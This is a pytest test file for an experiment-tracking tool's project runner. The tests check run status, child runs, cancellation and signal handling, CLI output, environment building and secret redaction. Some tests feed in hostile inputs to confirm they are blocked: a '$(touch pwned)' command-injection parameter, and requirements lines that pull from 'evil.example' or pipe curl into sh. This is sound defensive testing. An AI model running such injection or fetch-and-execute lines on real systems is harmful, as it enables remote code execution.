"""Projects run with real processes, and what their runs have then."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING, Any

import psutil
import pytest
from typer.testing import CliRunner

import nbtrack
import nbtrack.projects
from nbtrack.cli.main import app
from nbtrack.errors import InvalidValueError, NbtrackError, NbtrackWarning, NotFoundError, ProjectFailedError
from nbtrack.projects.interrupts import interrupts_wait

if TYPE_CHECKING:
    from nbtrack.environments.wanted import Wanted


def shell(examples: Path, entry: str = "main", **options):
    return nbtrack.projects.run(examples / "shell_steps", entry, env_manager="local", echo=False, **options)


def printed(run_id: str) -> str:
    return _text(run_id, "output.txt")


def _text(run_id: str, path: str) -> str:
    from nbtrack.tracking import active

    return active.get_store().artifact_file(run_id, path).read_text()


def test_a_command_with_pipes_is_a_run(examples: Path) -> None:
    going = shell(examples, parameters={"word": "it's $(touch pwned)", "times": 3}, run_name="first")
    found = nbtrack.get_run(going.run_id)
    assert going.get_status() == found.info.status == "FINISHED"
    assert (going.exit_code, found.info.run_name) == (0, "first")
    assert repr(going) == "<ProjectRun #1 'first' (FINISHED)>"
    assert found.data.params == {"word": "it's $(touch pwned)", "times": "3"}
    assert printed(going.run_id).strip() == "3"
    assert (examples / "shell_steps" / "it's $(touch pwned).txt").read_text().count("it's $(touch pwned)\n") == 3
    assert not (examples / "shell_steps" / "pwned").exists()
    tags = found.data.tags
    assert tags["mlflow.source.name"] == str(examples / "shell_steps")
    assert tags["mlflow.source.type"] == "PROJECT"
    assert [tags[f"mlflow.project.{name}"] for name in ("entryPoint", "backend", "env")] == ["main", "local", "local"]
    assert tags["nbtrack.project.exit_code"] == "0"
    assert "nbtrack.error" not in tags
    assert _text(going.run_id, "environment/packages.txt").startswith("python==")


def test_a_process_knows_its_run_by_both_names(examples: Path) -> None:
    going = shell(examples, "environment", experiment="wines")
    experiment = nbtrack.get_experiment_by_name("wines")
    assert experiment is not None
    uri = f"nbtrack://{examples.parent / 'runs.duckdb'}"
    assert printed(going.run_id).split() == [going.run_id, going.run_id, uri, experiment.experiment_id]
    assert nbtrack.get_run(going.run_id).info.experiment_id == experiment.experiment_id


def test_an_exit_code_is_the_end_of_a_run(examples: Path) -> None:
    with pytest.raises(ProjectFailedError, match=r"ended FAILED with exit code 3(.|\n)*the reason") as failed:
        shell(examples, "fails")
    found = nbtrack.get_run(failed.value.run_id)
    assert found.info.status == "FAILED"
    assert found.data.tags["nbtrack.error"] == "the reason"
    assert printed(failed.value.run_id) == "about to fail\nthe reason\n"


def test_a_project_inside_a_run_is_a_child_of_it(examples: Path) -> None:
    with nbtrack.start_run(experiment="parents") as parent:
        child = nbtrack.get_run(shell(examples, "script", parameters={"text": "a  b", "more": "c d"}).run_id)
        nbtrack.log_metric("after", 1)
        assert nbtrack.active_run() is parent
    assert child.info.parent_run_id == parent.id
    assert child.data.tags["mlflow.parentRunId"] == parent.id
    assert child.info.experiment_name == "parents"
    assert printed(child.info.run_id) == "<a  b><--more><c d>"
    assert nbtrack.get_run(parent.id).data.metrics == {"after": 1}


def test_a_cancelled_project_leaves_nothing_behind(examples: Path, tmp_path: Path) -> None:
    going = shell(examples, "waits", parameters={"here": str(tmp_path)}, synchronous=False)
    child = psutil.Process(wait_for_child(tmp_path))
    assert going.get_status() == "RUNNING"
    assert not going.wait(0.01)
    going.cancel()
    assert not child.is_running() or child.status() == psutil.STATUS_ZOMBIE
    assert going.get_status() == nbtrack.get_run(going.run_id).info.status == "KILLED"


@pytest.mark.parametrize("how", [signal.SIGINT, signal.SIGTERM])
def test_an_interrupted_command_ends_what_it_began(examples: Path, tmp_path: Path, how: signal.Signals) -> None:
    command = [
        sys.executable,
        "-m",
        "nbtrack",
        "run",
        str(examples / "shell_steps"),
        "-e",
        "waits",
        "-P",
        f"here={tmp_path}",
    ]
    environment = {**os.environ, "NBTRACK_TRACKING_URI": str(tmp_path / "runs.duckdb")}
    with interrupts_wait():  # which it hears, also when these tests run in the background of a shell
        begun = subprocess.Popen([*command, "--env-manager", "local"], env=environment, stderr=subprocess.PIPE)
    with begun as process:
        child = psutil.Process(wait_for_child(tmp_path))
        process.send_signal(how)
        process.communicate(timeout=60)
    assert process.returncode not in (0, None)
    assert not child.is_running() or child.status() == psutil.STATUS_ZOMBIE
    nbtrack.set_tracking_uri(tmp_path / "runs.duckdb")
    assert list(nbtrack.search_runs()["status"]) == ["KILLED"]


def wait_for_child(folder: Path) -> int:
    """Wait for the process id that the project writes down."""
    import time

    end = time.monotonic() + 60
    while not (folder / "child").is_file() or not (folder / "child").read_text().strip():
        assert time.monotonic() < end
        time.sleep(0.01)
    return int((folder / "child").read_text())


def test_steps_hand_their_files_on(examples: Path) -> None:
    going = nbtrack.projects.run(examples / "multistep", parameters={"rows": 5}, env_manager="local", echo=False)
    runs = nbtrack.search_runs().set_index("tags.mlflow.project.entryPoint")
    assert dict(runs["status"]) == {"main": "FINISHED", "load": "FINISHED", "train": "FINISHED"}
    assert set(runs.loc[["load", "train"], "tags.mlflow.parentRunId"]) == {going.run_id}
    assert list(runs.loc[["main", "train"], "metrics.sum"]) == [20.0, 20.0]
    assert str(runs.loc["train", "params.table"]).endswith("/tables/numbers.csv")


def test_the_command_answers_in_json(examples: Path, tmp_path: Path) -> None:
    words = [
        "run",
        str(examples / "shell_steps"),
        "--env-manager",
        "local",
        "--store",
        str(tmp_path / "j.duckdb"),
        "--json",
    ]
    done = CliRunner().invoke(app, [*words, "-e", "show.sh", "-P", "a=b=c", "--experiment", "cli", "--run-name", "x"])
    assert done.exit_code == 0, done.output
    found = json.loads(done.stdout)
    assert (found["status"], found["run_name"], found["params"]) == ("FINISHED", "x", {"a": "b=c"})
    done = CliRunner().invoke(app, [*words, "-e", "fails"])
    assert (done.exit_code, json.loads(done.stdout)["exit_code"]) == (1, 3)
    for odd in (["-P", "a"], ["-P", "=1"], ["-P", "a=1", "-P", "a=2"]):
        assert CliRunner().invoke(app, [*words, *odd]).exit_code == 1


@pytest.mark.parametrize(
    ("options", "told"),
    [
        ({"backend": "slrum"}, "Backend 'slrum'"),
        ({"backend_config": {"a": 1}}, "backend_config"),
        ({"backend_config": "missing.json"}, "missing.json"),
        ({"env_manager": "poetry"}, "uv, local"),
        ({"version": "v1"}, "no git repository"),
        ({"parameters": {"times": "x"}}, "a number is expected"),
        ({"entry_point": "mian"}, "main"),
        ({"parameters": {"word": "a\0b"}}, "NUL"),
    ],
)
def test_what_cannot_be_run_is_no_run(examples: Path, options: dict, told: str) -> None:
    with pytest.raises((InvalidValueError, NotFoundError), match=told):
        nbtrack.projects.run(examples / "shell_steps", **{"env_manager": "local", "echo": False, **options})
    assert nbtrack.search_runs().empty


def test_what_fails_before_it_runs_says_so_in_its_run(examples: Path) -> None:
    with pytest.raises(NotFoundError, match=r"numbers\.csv"):
        nbtrack.projects.run(examples / "multistep", "train", parameters={"table": "numbers.csv"}, echo=False)
    (row,) = nbtrack.search_runs().to_dict("records")
    assert row["status"] == "FAILED"
    assert "numbers.csv" in row["tags.nbtrack.error"]


def test_a_script_in_r_is_given_its_words(examples: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    program = tmp_path / "bin" / "Rscript"
    program.parent.mkdir()
    program.write_text("#!/bin/sh\nprintf '%s\\n' \"$@\"\n")
    program.chmod(0o755)
    monkeypatch.setenv("PATH", f"{program.parent}{os.pathsep}{os.environ['PATH']}")
    going = nbtrack.projects.run(
        examples / "shell_steps", "train.R", parameters={"a": "$(b)"}, env_manager="local", echo=False
    )
    flag, code, *rest = printed(going.run_id).splitlines()
    assert (flag, rest) == ("-e", ["--args", "--a", "$(b)"])
    assert code.startswith('f <- "train.R";')


def test_secrets_stay_out_of_the_store(examples: Path) -> None:
    secret = "ghp_" + "a1B2" * 9
    going = shell(examples, "script", parameters={"text": secret})
    assert secret not in printed(going.run_id)
    assert secret not in str(nbtrack.get_run(going.run_id).data.params)


def test_an_environment_is_made_by_uv_once(
    examples: Path, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PYTHONDONTWRITEBYTECODE", "1")  # which says where, not that all is compiled each time
    prefixes = []
    for _ in range(2):
        going = nbtrack.projects.run(examples / "pinned", echo=False)
        version, prefix = printed(going.run_id).split()
        prefixes.append(prefix)
        assert version == "2.0.0"
    assert prefixes[0] == prefixes[1] != sys.prefix
    assert Path(prefixes[0]).is_relative_to(os.environ["NBTRACK_CACHE"])
    assert any((Path(prefixes[0]) / "bytecode").rglob("*.pyc"))
    assert not any((examples / "pinned").rglob("*.pyc"))
    assert nbtrack.get_run(going.run_id).data.tags["mlflow.project.env"] == "uv"
    assert "iniconfig==2.0.0" in _text(going.run_id, "environment/packages.txt").splitlines()
    assert capfd.readouterr().err.count("Installed 1 package") == 1


def test_what_only_conda_has_is_told(examples: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from nbtrack.environments import making

    made: list[Wanted] = []

    def make(wanted: Wanted, **_: Any) -> Path:
        made.append(wanted)
        return Path(sys.executable)

    monkeypatch.setattr(making, "make", make)
    with pytest.warns(NbtrackWarning, match="r-base=4.3, which is conda's"):
        nbtrack.projects.run(examples / "shell_steps", "show.sh", echo=False)
    assert made[0].requirements == ("numpy>=1.26", "iniconfig==2.0.0")
    assert made[0].python == "3.11"


def test_nothing_is_fetched_from_elsewhere_without_leave(examples: Path) -> None:
    file = examples / "pinned" / "environment" / "requirements.txt"
    for line in (
        "evil @ https://evil.example/x.whl",
        "--index-url https://evil.example",
        "-e .",
        "x; curl evil|sh",
        "-r ../../out.txt",
    ):
        file.write_text(line)
        with pytest.raises(NbtrackError):
            nbtrack.projects.run(examples / "pinned", echo=False)
